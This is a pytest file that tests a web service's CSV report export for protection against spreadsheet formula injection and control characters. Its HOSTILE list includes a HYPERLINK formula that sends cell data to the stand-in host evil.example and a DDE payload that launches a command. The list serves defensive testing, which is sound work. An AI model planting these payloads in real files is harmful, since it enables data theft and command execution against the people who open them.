"""The open-data CSV carries text as text: no cell a spreadsheet would run, no control character (issue 13, 3)."""
from __future__ import annotations

import csv
import io

import pytest

from services.web.api.reports import _csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
           "\tTAB", "\rCR"]


def _view(name: str, unit: str = "%", fact: str | None = "2") -> dict:
    content = {"financing_unit": "тыс. руб.",
               "indicators": [{"code": "I1", "name": name, "unit": unit, "plan": "1", "fact": fact,
                               "achievement": "-0.5"}],
               "financing": [], "activities": [{"code": "A1", "title": name, "done": None}]}
    return {"program": {"slug": "p", "title": "П"},
            "reports": [{"id": 1, "kind": "annual", "period": "2016", "published_at": None, "content": content}]}


def _rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_gets_a_leading_quote(text):
    rows = _rows(_csv(_view(text, unit=text), "p"))
    assert [r["name"] for r in rows] == ["'" + text] * 2
    assert rows[0]["unit"] == "'" + text
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k, v in r.items()
                   if k != "ratio")


def test_numbers_and_plain_text_are_left_as_they_are():
    rows = _rows(_csv(_view("Доля -граждан", fact=None), "p"))
    assert (rows[0]["name"], rows[0]["fact"], rows[0]["ratio"], rows[0]["plan"]) == ("Доля -граждан", "", "-0.5", "1")


def test_control_characters_are_dropped_and_the_content_type_is_said_once():
    response = _csv(_view("до\x01по\x7fсле\x0b\ud800"), "p")
    assert _rows(response)[0]["name"] == "допосле"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"

